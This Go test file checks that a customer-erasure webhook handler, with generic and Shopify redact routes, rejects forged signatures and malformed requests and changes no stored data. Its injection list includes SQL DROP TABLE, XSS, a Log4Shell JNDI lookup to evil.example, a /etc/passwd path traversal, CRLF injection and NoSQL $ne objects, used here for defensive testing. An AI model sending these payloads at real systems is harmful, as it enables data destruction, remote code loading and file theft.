package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-lambda-go/events"

	"github.com/tsunagu-dev/tsunagu/shared/httpapi"
	"github.com/tsunagu-dev/tsunagu/shared/signature"
	"github.com/tsunagu-dev/tsunagu/shared/store"
	"github.com/tsunagu-dev/tsunagu/shared/testenv"
)

// hostileCase is one request and the status it must get.
type hostileCase struct {
	name   string
	req    events.APIGatewayV2HTTPRequest
	status int
}

// injections are hostile strings for the customer id: valid JSON strings,
// so the request is accepted, but they name nobody and erase nothing.
var injections = []string{
	`'; DROP TABLE customers; --`, `" OR "1"="1`, `<script>alert(1)</script>`, `{{.Shop.Name}}`,
	`${jndi:ldap://evil.example/a}`, `../../../../etc/passwd`, `CUSTOMER#c-1`, `c-1#PROFILE`,
	"c-1\u0000", "\u202ec-1", `*`, `%`, `c-%`, "c-1\r\nX: y",
}

// Hostile names the row for testenv.ExpectNoEffect.
func (c hostileCase) Hostile() (string, events.APIGatewayV2HTTPRequest, int) {
	return c.name, c.req, c.status
}

// expectRefusedOrHarmless sends each request to a handler over a table
// holding two customers: every answer has its status and a JSON body, and
// nothing in the table changes.
func expectRefusedOrHarmless(t *testing.T, tests []hostileCase) {
	t.Helper()
	table := testenv.NewTable(t)
	st := store.New(testenv.DynamoDB(), table)
	h := &Handler{Store: store.New(testenv.DynamoDBAs(t, "ErasureFunction"), table), WebhookSecret: signature.Keys{secret}, ShopifySecret: signature.Keys{secret}, Now: func() time.Time { return now }}
	seed(t, st, "c-1", "misaki@example.jp")
	seed(t, st, "191167", "john@example.com")
	testenv.ExpectNoEffect(t, table, h.Handle, tests, testenv.JSONAnswer, nil)
}

// TestGenericErasureRefusesHostileInput: POST /webhooks/customers/erase.
func TestGenericErasureRefusesHostileInput(t *testing.T) {
	const valid = `{"customer_id": "c-1"}`
	sig := signature.SignTsunagu(secret, now, []byte(valid))
	_, v1, _ := strings.Cut(sig, ",")
	ts := fmt.Sprint(now.Unix())
	signedAt := func(body string, at time.Time) events.APIGatewayV2HTTPRequest {
		return testenv.WithHeader(genericRequest(body), "x-tsunagu-signature", signature.SignTsunagu(secret, at, []byte(body)))
	}
	tests := []hostileCase{
		{"no signature", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", ""), 401},
		{"blank signature", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", " "), 401},
		{"garbage signature", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "hello"), 401},
		{"timestamp only", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+ts), 401},
		{"mac only", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", v1), 401},
		{"mac not hex", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+ts+",v1="+strings.Repeat("zz", 32)), 401},
		{"mac truncated", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", sig[:len(sig)-2]), 401},
		{"mac of zeros", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+ts+",v1="+strings.Repeat("0", 64)), 401},
		{"wrong secret", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", signature.SignTsunagu("not-the-secret", now, []byte(valid))), 401},
		{"empty secret", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", signature.SignTsunagu("", now, []byte(valid))), 401},
		{"stale by six minutes", signedAt(valid, now.Add(-6*time.Minute)), 401},
		{"from the future", signedAt(valid, now.Add(6*time.Minute)), 401},
		{"timestamp overflows", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t=99999999999999999999,"+v1), 401},
		{"timestamp moved, mac kept", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", "t="+fmt.Sprint(now.Unix()-1)+","+v1), 401},
		{"signature of another customer", testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", signature.SignTsunagu(secret, now, []byte(`{"customer_id": "191167"}`))), 401},
		{"body changed after signing", func() events.APIGatewayV2HTTPRequest {
			r := genericRequest(valid)
			r.Body = strings.Replace(r.Body, "c-1", "c-2", 1)
			return r
		}(), 401},
		{"shopify signature instead", testenv.WithHeader(testenv.WithHeader(genericRequest(valid), "x-tsunagu-signature", ""), "x-shopify-hmac-sha256", signature.SignShopify(secret, []byte(valid))), 401},
		{"base64 flag on a plain body", func() events.APIGatewayV2HTTPRequest { r := genericRequest(valid); r.IsBase64Encoded = true; return r }(), 400},
		{"base64 body, signed plain", func() events.APIGatewayV2HTTPRequest {
			r := genericRequest(valid)
			r.Body, r.IsBase64Encoded = base64.StdEncoding.EncodeToString([]byte(valid+" ")), true
			return r
		}(), 401},
		{"body over 256 KiB", genericRequest(`{"customer_id": "c-1", "pad": "` + strings.Repeat("x", httpapi.MaxBody) + `"}`), 413},
		{"empty body", genericRequest(""), 400},
		{"whitespace body", genericRequest(" \n\t"), 400},
		{"not JSON", genericRequest("customer_id=c-1"), 400},
		{"truncated JSON", genericRequest(`{"customer_id": "c-1"`), 400},
		{"trailing garbage", genericRequest(valid + `x`), 400},
		{"two objects", genericRequest(valid + valid), 400},
		{"array", genericRequest(`[` + valid + `]`), 400},
		{"string", genericRequest(`"c-1"`), 400},
		{"number", genericRequest(`1`), 400},
		{"null", genericRequest(`null`), 400},
		{"invalid UTF-8", genericRequest("{\"customer_id\": \"c-\xff\"}"), 400},
		{"nested 5000 deep", genericRequest(testenv.NestedJSON(5000)), 400},
		{"nested in the field", genericRequest(`{"customer_id": ` + testenv.NestedJSON(100) + `}`), 400},
		{"no customer id", genericRequest(`{"id": "c-1"}`), 400},
		{"customer id in another case", genericRequest(`{"Customer_ID": "c-1"}`), 400},
		{"customer id empty", genericRequest(`{"customer_id": ""}`), 400},
		{"customer id blank", genericRequest(`{"customer_id": "   "}`), 400},
		{"customer id newline", genericRequest(`{"customer_id": "\n"}`), 400},
		{"customer id number", genericRequest(`{"customer_id": 1}`), 400},
		{"customer id bool", genericRequest(`{"customer_id": true}`), 400},
		{"customer id null", genericRequest(`{"customer_id": null}`), 400},
		{"customer id object", genericRequest(`{"customer_id": {"$ne": ""}}`), 400},
		{"customer id array", genericRequest(`{"customer_id": ["c-1", "191167"]}`), 400},
		{"customer id 201 characters", genericRequest(`{"customer_id": "` + strings.Repeat("c", 201) + `"}`), 400},
		{"customer id 3000 characters", genericRequest(`{"customer_id": "` + strings.Repeat("c", 3000) + `"}`), 400},
		{"unknown route", func() events.APIGatewayV2HTTPRequest {
			r := genericRequest(valid)
			r.RouteKey = "DELETE /webhooks/customers/erase"
			return r
		}(), 404},
	}
	for _, s := range injections {
		b, _ := json.Marshal(map[string]string{"customer_id": s})
		tests = append(tests, hostileCase{"customer id " + fmt.Sprintf("%.20q", s), genericRequest(string(b)), 200})
	}
	expectRefusedOrHarmless(t, tests)
}

// TestShopifyRedactRefusesHostileInput: POST /webhooks/shopify/customers/redact.
func TestShopifyRedactRefusesHostileInput(t *testing.T) {
	const valid = `{"shop_id": 954889, "shop_domain": "tsubaki-chaen.myshopify.com", "customer": {"id": 191167, "email": "john@example.com"}, "orders_to_redact": [299938]}`
	redact := func(body string) events.APIGatewayV2HTTPRequest { return shopifyRequest("customers/redact", body) }
	good := signature.SignShopify(secret, []byte(valid))
	tests := []hostileCase{
		{"no hmac", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", ""), 401},
		{"blank hmac", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", " "), 401},
		{"hmac not base64", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", "!!!"), 401},
		{"hmac truncated", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", good[:len(good)-4]), 401},
		{"hmac in hex", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", fmt.Sprintf("%x", signature.Sum(secret, []byte(valid)))), 401},
		{"hmac of zeros", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", base64.StdEncoding.EncodeToString(make([]byte, 32))), 401},
		{"wrong secret", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", signature.SignShopify("not-the-secret", []byte(valid))), 401},
		{"empty secret", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", signature.SignShopify("", []byte(valid))), 401},
		{"hmac of another body", testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", signature.SignShopify(secret, []byte(`{}`))), 401},
		{"body changed after signing", func() events.APIGatewayV2HTTPRequest {
			r := redact(valid)
			r.Body = strings.Replace(r.Body, "191167", "191168", 1)
			return r
		}(), 401},
		{"tsunagu signature instead", testenv.WithHeader(testenv.WithHeader(redact(valid), "x-shopify-hmac-sha256", ""), "x-tsunagu-signature", signature.SignTsunagu(secret, now, []byte(valid))), 401},
		{"no topic", shopifyRequest("", valid), 400},
		{"orders/create", shopifyRequest("orders/create", valid), 400},
		{"customers/data_request", shopifyRequest("customers/data_request", valid), 400},
		{"shop/redact", shopifyRequest("shop/redact", valid), 400},
		{"topic in capitals", shopifyRequest("CUSTOMERS/REDACT", valid), 400},
		{"topic with spaces", shopifyRequest(" customers/redact ", valid), 400},
		{"topic with crlf", shopifyRequest("customers/redact\r\nX: y", valid), 400},
		{"base64 flag on a plain body", func() events.APIGatewayV2HTTPRequest { r := redact(valid); r.IsBase64Encoded = true; return r }(), 400},
		{"body over 256 KiB", redact(`{"customer": {"id": 191167}, "pad": "` + strings.Repeat("x", httpapi.MaxBody) + `"}`), 413},
		{"empty body", redact(""), 400},
		{"not JSON", redact("customer=191167"), 400},
		{"truncated JSON", redact(valid[:40]), 400},
		{"array", redact(`[` + valid + `]`), 400},
		{"string", redact(`"191167"`), 400},
		{"null", redact(`null`), 400},
		{"invalid UTF-8", redact("{\"customer\": {\"email\": \"\xff@example.jp\"}}"), 400},
		{"nested 5000 deep", redact(testenv.NestedJSON(5000)), 400},
		{"no customer", redact(`{"shop_domain": "tsubaki-chaen.myshopify.com"}`), 400},
		{"customer null", redact(`{"customer": null}`), 400},
		{"customer a string", redact(`{"customer": "191167"}`), 400},
		{"customer an array", redact(`{"customer": [191167]}`), 400},
		{"customer empty", redact(`{"customer": {}}`), 400},
		{"customer phone only", redact(`{"customer": {"phone": "555-625-1199"}}`), 400},
		{"customer blank email", redact(`{"customer": {"email": "  "}}`), 400},
		{"customer id an object", redact(`{"customer": {"id": {"$ne": 0}}}`), 400},
		{"customer id a word", redact(`{"customer": {"id": "one"}}`), 400},
		{"customer id an array", redact(`{"customer": {"id": [191167]}}`), 400},
		{"customer id true", redact(`{"customer": {"id": true}}`), 400},
		{"customer id 3000 digits", redact(`{"customer": {"id": 1` + strings.Repeat("0", 2999) + `}}`), 400},
		{"customer email a number", redact(`{"customer": {"email": 1}}`), 400},
		{"orders_to_redact not a list, for nobody known", redact(`{"customer": {"id": 424242}, "orders_to_redact": 5}`), 200},
		{"unknown route", func() events.APIGatewayV2HTTPRequest {
			r := redact(valid)
			r.RouteKey = "POST /webhooks/shopify/customers/delete"
			return r
		}(), 404},
	}
	// Valid requests for nobody tsunagu knows: 200, nothing erased.
	for _, id := range []string{"0", "-1", "1.5", "1e3", "191167.0", "99999999999999999999999"} {
		tests = append(tests, hostileCase{"customer id " + id, redact(`{"customer": {"id": ` + id + `}}`), 200})
	}
	for _, s := range injections[:6] {
		b, _ := json.Marshal(map[string]any{"customer": map[string]string{"email": s}})
		tests = append(tests, hostileCase{"guest address " + fmt.Sprintf("%.20q", s), redact(string(b)), 200})
	}
	expectRefusedOrHarmless(t, tests)
}
